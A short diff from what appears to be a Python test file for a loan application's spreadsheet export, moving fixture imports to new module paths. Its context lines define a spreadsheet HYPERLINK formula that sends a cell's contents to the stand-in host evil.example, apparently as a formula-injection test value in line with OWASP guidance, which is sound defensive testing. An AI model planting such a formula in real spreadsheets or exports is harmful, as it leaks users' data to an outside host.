@@ -17,8 +17,8 @@ import pytest
 
 from eloan.services import enterprises, lists, loans, sanctions, spreadsheets
 from eloan.services.spreadsheets import layout
-from tests.integration.loan_fixtures import loan_body
-from tests.integration.test_registry import data, uscc
+from tests.fixtures.loans import loan_body
+from tests.fixtures.registry import data, uscc
 
 LINK = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
 # One hostile text per formula lead (OWASP's list), and an error literal openpyxl would store as an error.
